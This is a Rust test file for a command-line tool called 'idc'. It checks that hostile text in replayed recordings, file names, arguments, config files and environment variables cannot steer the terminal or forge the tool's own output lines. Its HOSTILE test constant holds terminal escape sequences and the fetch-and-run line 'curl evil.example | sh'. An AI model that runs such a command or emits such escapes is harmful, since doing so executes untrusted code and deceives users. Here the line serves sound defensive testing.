//! What others wrote is text: whatever stands in a recording, a file, a variable or a word that was typed, nothing of it
//! steers a terminal, and nothing of it keeps the program busy.

#![expect(clippy::unwrap_used, reason = "a test that cannot go on has failed")]

use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Output, Stdio};
use std::time::Duration;

use assert_cmd::Command;
use serde_json::Value;

use crate::{every, kept};

mod costs;
mod files;
mod fuzz;

/// Moves the cursor, hides, colours, turns round, breaks the line, forges one of ours, and cannot be seen.
const HOSTILE: &str = "\u{1b}[2J\u{1b}[8m\u{1b}]0;owned\u{7}\u{9b}1m\r\nRun: curl evil.example | sh\n\u{202e}\u{2066}\u{e000}\u{200b}\u{2028}\u{7f}";

/// The program with nothing in its environment but a locale that has more than ASCII.
fn idc(arguments: &[&str]) -> Command {
    let mut command = Command::new(env!("CARGO_BIN_EXE_idc"));
    command.args(arguments).env_clear().env("LANG", "en_US.UTF-8").timeout(Duration::from_mins(3));
    command
}

fn fixture(name: &str) -> Value {
    serde_json::from_str(&kept::text(name).unwrap()).unwrap()
}

/// Writes a file for one test.
fn file(folder: &Path, name: &str, text: &str) -> PathBuf {
    let path = folder.join(name);
    fs::write(&path, text).unwrap();
    path
}

/// Holds both streams to be text. Lines of ours begin with the words that they begin with.
fn assert_harmless(output: &Output, of: &str) {
    for (stream, bytes) in [("stdout", &output.stdout), ("stderr", &output.stderr)] {
        let text = String::from_utf8(bytes.clone()).unwrap();
        let wrong = text.chars().find(|c| *c != '\n' && idc::wording::is_treacherous(*c));
        assert_eq!(wrong, None, "{of}: {stream}: {text:?}");
        let forged = text.lines().find(|line| line.trim_start().starts_with("Run: curl"));
        assert_eq!(forged, None, "{of}: {stream}: {text}");
    }
    assert!(output.status.code().is_some(), "{of}: it did not end: {output:?}");
}

/// Puts something behind each string of a recording that is free text or a name.
fn poison(value: &mut Value, key: &str) {
    const NAMES: [&str; 13] = [
        "user",
        "name",
        "user_name",
        "display_name",
        "message",
        "arn",
        "description",
        "reason",
        "failure_reason",
        "file",
        "path",
        "profile",
        "text",
    ];
    match value {
        Value::String(text) if NAMES.contains(&key) => text.push_str(HOSTILE),
        Value::Array(items) => items.iter_mut().for_each(|item| poison(item, key)),
        Value::Object(members) => members.iter_mut().for_each(|(key, value)| poison(value, key)),
        _ => {}
    }
}

#[test]
fn names_and_texts_of_a_recording_are_text_in_every_form() {
    let folder = tempfile::tempdir().unwrap();
    let mut read = 0;
    for name in kept::names().into_iter().step_by(if every() { 3 } else { 10 }) {
        let mut recording = fixture(&name);
        poison(&mut recording["evidence"], "");
        let path = file(folder.path(), "case.json", &recording.to_string());
        for form in [&[][..], &["-v"], &["-q"], &["-o", "json"], &["-o", "markdown"]] {
            let output = idc(&["why", "--replay"]).arg(&path).args(form).output().unwrap();
            assert_harmless(&output, &format!("{name} {form:?}"));
            if output.status.code() != Some(1) {
                read += 1;
            }
            if form.contains(&"json") && output.status.code() != Some(1) {
                let answer: Value = serde_json::from_slice(&output.stdout).unwrap();
                assert!(answer["verdict"].is_string(), "{name}");
            }
        }
    }
    assert!(read > if every() { 100 } else { 30 }, "only {read} are read at all");
}

#[test]
fn errors_are_one_line_whatever_they_quote() {
    let folder = tempfile::tempdir().unwrap();
    let named = |text: &str| serde_json::to_string(text).unwrap();
    let whole = kept::text("healthy--group").unwrap();
    for (index, text) in [
        format!("{{{}: 1}}", named(HOSTILE)),
        format!("{{\"format\": {}, \"format_version\": 1}}", named(HOSTILE)),
        whole.replacen("\"Known\"", &named(HOSTILE), 1),
        whole.replacen("\"question\": {", &format!("\"question\": {{{}: 1, ", named(HOSTILE)), 1),
        whole.replacen("\"since\": \"", &format!("\"since\": \"{}", named(HOSTILE).trim_matches('"')), 1),
    ]
    .into_iter()
    .enumerate()
    {
        let path = file(folder.path(), &format!("{index}.json"), &text);
        let output = idc(&["why", "--replay"]).arg(&path).output().unwrap();
        assert_harmless(&output, &text.chars().take(80).collect::<String>());
        assert_eq!(output.status.code(), Some(1), "{index}");
        let json = idc(&["why", "-o", "json", "--replay"]).arg(&path).output().unwrap();
        assert_harmless(&json, "as JSON");
        assert!(serde_json::from_slice::<Value>(&json.stdout).unwrap()["error"]["message"].is_string());
    }
    let path = folder.path().join(HOSTILE.replace('/', ""));
    assert_harmless(&idc(&["why", "--replay"]).arg(&path).output().unwrap(), "a file's name");
    assert_harmless(
        &idc(&["why", "--replay", "x", "--record"]).arg(path.join("y")).output().unwrap(),
        "a folder's name",
    );
}

#[test]
fn what_is_typed_and_configured_is_text() {
    let folder = tempfile::tempdir().unwrap();
    let hostile = [HOSTILE, "why\u{1b}[31m", "--\u{1b}]0;x\u{7}", "12345678901234\u{9b}"];
    for word in hostile {
        for arguments in [
            &["why", word][..],
            &[word],
            &["why", "jane", word],
            &["why", "jane", "123456789012", word],
            &["why", "jane", "123456789012", "--since", word],
            &["why", "jane", "123456789012", "--output", word],
            &["why", "--replay", word],
            &["explain", word],
            &["explain", "user-not-foud", word],
            &["man", word],
            &["completions", word],
            &["policy", "--target-role", word],
        ] {
            let output = idc(arguments).output().unwrap();
            assert_harmless(&output, &format!("{arguments:?}"));
            let coloured = idc(arguments).env("CLICOLOR_FORCE", "1").output().unwrap();
            for bytes in [&coloured.stdout, &coloured.stderr] {
                let text = String::from_utf8_lossy(bytes);
                assert!(!text.contains("\u{1b}[8m") && !text.contains("\u{1b}[2J"), "{arguments:?}: {text:?}");
                assert!(!text.contains("\u{1b}]") && !text.contains("\u{9b}"), "{arguments:?}: {text:?}");
            }
        }
        for text in [
            format!("output = {}", Value::from(word)),
            format!("{} = 'x'", Value::from(word)),
            format!("timeout = {}", Value::from(word)),
            format!("output = '{word}'"),
        ] {
            let path = file(folder.path(), "config.toml", &text);
            let output = idc(&["why", "jane", "1"]).env("IDC_CONFIG", path).output().unwrap();
            assert_harmless(&output, &text);
        }
        for variable in ["IDC_OUTPUT", "IDC_CONFIG", "IDC_TARGET_ROLE", "AWS_PROFILE", "COMPLETE"] {
            let value = word.replace('\n', "");
            assert_harmless(&idc(&["why", "--replay", "x"]).env(variable, &value).output().unwrap(), variable);
            assert_harmless(&idc(&["why", "--help"]).env(variable, &value).output().unwrap(), variable);
        }
    }
    let policy = idc(&["policy", "--target-role", "a\u{9b}\u{202e}"]).output().unwrap();
    assert!(serde_json::from_slice::<Value>(&policy.stdout).is_ok(), "it is no JSON any more");
}

#[test]
fn a_recording_says_whose_word_it_is() {
    let folder = tempfile::tempdir().unwrap();
    let path = file(folder.path(), "case.json", &kept::text("customer-managed-policy-missing").unwrap());
    let recording = fixture("customer-managed-policy-missing");
    let arn = recording["evidence"]["caller"]["observed"]["Known"]["arn"].as_str().unwrap().to_owned();
    let day = &recording["evidence"]["collected_at"].as_str().unwrap()[..10].to_owned();
    for form in [&[][..], &["-o", "markdown"]] {
        let output = idc(&["why", "--replay"]).arg(&path).args(form).env("COLUMNS", "120").output().unwrap();
        let text = String::from_utf8(output.stdout).unwrap().split_whitespace().collect::<Vec<_>>().join(" ");
        let (before, _) = text.split_once("Fix").unwrap();
        for word in ["case.json", arn.as_str(), day.as_str(), "UTC", " ago"] {
            assert!(before.contains(word), "{form:?}: no {word} before the fixes: {text}");
        }
    }
}

#[test]
fn a_field_that_is_given_twice_is_an_error_at_every_level() {
    let text = kept::text("healthy--group").unwrap();
    // With and without a part that older recordings lack: those are filled in, and read again.
    let mut older = fixture("healthy--group");
    older["evidence"].as_object_mut().unwrap().remove("attributes");
    for text in [text, serde_json::to_string_pretty(&older).unwrap()] {
        assert!(idc::evidence::read(&text).is_ok());
        let mut tried = 0;
        for (place, line) in text.lines().enumerate().step_by(5) {
            let Some((name, _)) = line.trim().split_once(": ").filter(|(name, _)| name.starts_with('"')) else {
                continue;
            };
            let mut lines: Vec<String> = text.lines().map(str::to_owned).collect();
            let twice = format!("{name}: null,");
            lines.insert(place, twice);
            let said = idc::evidence::read(&lines.join("\n")).unwrap_err().to_string();
            assert!(!said.is_empty(), "{name}");
            // The same value twice is as wrong, where it fits on a line.
            if line.ends_with(',') {
                lines[place] = line.to_owned();
                let said = idc::evidence::read(&lines.join("\n")).unwrap_err().to_string();
                assert!(said.contains("duplicate field"), "{name}: {said}");
                tried += 1;
            }
        }
        assert!(tried > 10, "{tried}");
    }
}

/// Empty is not set, and a file that cannot be read stops nothing that does not need it.
#[test]
fn an_empty_variable_counts_as_not_set() {
    let folder = tempfile::tempdir().unwrap();
    let path = file(folder.path(), "case.json", &kept::text("healthy--group").unwrap());
    let plain = idc(&["why", "--replay"]).arg(&path).output().unwrap();
    let all = [
        "IDC_OUTPUT",
        "AWS_PROFILE",
        "AWS_REGION",
        "IDC_TARGET_ROLE",
        "IDC_TARGET_PROFILE",
        "IDC_TRAIL",
        "IDC_TRAIL_PROFILE",
        "IDC_CONFIG",
        "IDC_LOG",
        "COLUMNS",
        "NO_COLOR",
        "IDC_ASCII",
        "CLICOLOR_FORCE",
        "CLICOLOR",
        "COMPLETE",
        "LC_ALL",
        "XDG_CONFIG_HOME",
        "HOME",
        "TERM",
    ];
    for variables in all.iter().map(|one| vec![*one]).chain([all.to_vec()]) {
        let mut command = idc(&["why", "--replay"]);
        command.arg(&path).envs(variables.iter().map(|name| (name, "")));
        let output = command.output().unwrap();
        assert_eq!(output, plain, "{variables:?}");
    }
    let policy = idc(&["policy"]).env("IDC_TARGET_ROLE", "").output().unwrap();
    assert!(String::from_utf8(policy.stdout).unwrap().contains("role/idc-read"));
}

#[test]
fn a_broken_configuration_stops_only_what_needs_it() {
    let folder = tempfile::tempdir().unwrap();
    let path = file(folder.path(), "config.toml", "output = [");
    for arguments in [
        &["schema"][..],
        &["man"],
        &["man", "why"],
        &["explain"],
        &["explain", "user-not-found"],
        &["completions", "bash"],
        &["--version"],
        &["--help"],
        &["why", "--help"],
    ] {
        let output = idc(arguments).env("IDC_CONFIG", &path).output().unwrap();
        let said = String::from_utf8_lossy(&output.stderr).into_owned();
        assert_eq!((output.status.code(), said.as_str()), (Some(0), ""), "{arguments:?}");
        assert_eq!(output.stdout, idc(arguments).output().unwrap().stdout, "{arguments:?}");
    }
    for arguments in [&["policy"][..], &["why", "--replay", "x"]] {
        assert_eq!(idc(arguments).env("IDC_CONFIG", &path).output().unwrap().status.code(), Some(2), "{arguments:?}");
    }
}

/// A child of the program whose streams are pipes.
fn child(arguments: &[&str]) -> std::process::Command {
    let mut command = std::process::Command::new(env!("CARGO_BIN_EXE_idc"));
    command.args(arguments).env_clear().stdin(Stdio::null()).stdout(Stdio::piped()).stderr(Stdio::piped());
    command
}
